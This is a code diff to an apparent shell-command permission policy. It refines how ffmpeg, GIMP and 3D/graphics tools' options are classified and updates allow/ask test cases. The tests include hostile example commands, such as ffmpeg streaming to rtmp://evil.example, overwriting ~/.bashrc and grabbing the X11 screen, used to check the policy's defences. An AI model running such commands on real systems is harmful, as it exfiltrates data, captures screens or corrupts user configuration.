@@ -31,7 +31,7 @@ FFMPEG = command(
             "-ss= -t= -to= -sseof= -c= -codec= -acodec= -vcodec= -scodec= -c:v= -c:a= -c:s= -codec:v= -codec:a= -vf= -af= -filter:v= -filter:a= -filter_complex="
         ),
         flags(
-            "-lavfi= -r= -s= -b= -ab= -vb= -b:v= -b:a= -map= -f= -preset= -crf= -pix_fmt= -loglevel= -v= -framerate= -frames= -frames:v= -vframes= -q= -q:v= -q:a="
+            "-lavfi= -r= -s= -b= -ab= -vb= -b:v= -b:a= -map= -preset= -crf= -pix_fmt= -loglevel= -v= -framerate= -frames= -frames:v= -vframes= -q= -q:v= -q:a="
         ),
         flags(
             "-qscale= -qscale:v= -movflags= -ar= -ac= -aspect= -metadata= -start_number= -loop= -stream_loop= -threads= -tune= -profile:v= -profile:a= -level= -g="
@@ -53,6 +53,7 @@ FFMPEG = command(
             informs=True,
         ),
         option("-i", "OPENS"),
+        option("-f", "READ_BY(media_format)"),
         option("-filter_complex_script -filter_script:v -attach", READS),
         option("-hls_segment_filename -passlogfile -dump_attachment:t:0 -vstats_file -sdp_file", WRITES),
         option("-progress", "READ_BY(media_target)"),
@@ -173,8 +174,18 @@ INKSCAPE = command(
         option("--actions --verb --shell --batch-process --app-id-tag", "OPAQUE"),
     ],
 )
-BLENDER = command("blender openscad freecad freecadcmd meshlabserver gimp gimp-console krita", "READS...", [
+BLENDER = command("blender openscad freecad freecadcmd meshlabserver krita", "READS...", [
     option("-o --render-output --export-filename", WRITES), option("-P --python -s", RUNS), option("--python-expr --batch -c", "OPAQUE"), flags("-b --background -a -f= -E= --no-interface -i -d -D=")], unlisted=PLAIN)  # fmt: skip
+GIMP = command(
+    "gimp gimp-console",
+    "READS...",
+    [
+        option("-b --batch", "OPAQUE"),
+        option("--batch-interpreter -g --gimprc", PLAIN),
+        flags("-i -d -f -n -s --no-interface --no-data --no-fonts --quit"),
+    ],
+    unlisted=PLAIN,
+)
 DRAWING = command(
     "drawio draw.io dia mscgen ditaa svgbob excalidraw-cli",
     "READS...",
@@ -221,7 +232,8 @@ allow  ffmpeg -version
 ask    ffmpeg -y -i in.mp4 ~/.bashrc
 ask    ffmpeg -i in.mp4 -f flv rtmp://evil.example/live
 ask    ffmpeg -i https://evil.example/x.mp4 out.mp4
-ask    ffmpeg -f x11grab -i :0 -t 1 /home/user/x.mp4
+ask    ffmpeg -f x11grab -i :0 -t 1 build/x.mp4
+ask    gimp -i -b '(gimp-quit 0)'
 allow  ffprobe -v error -show_entries format=duration -of csv=p=0 in.mp4
 allow  convert in.png -resize 50% out.jpg
        read in.png
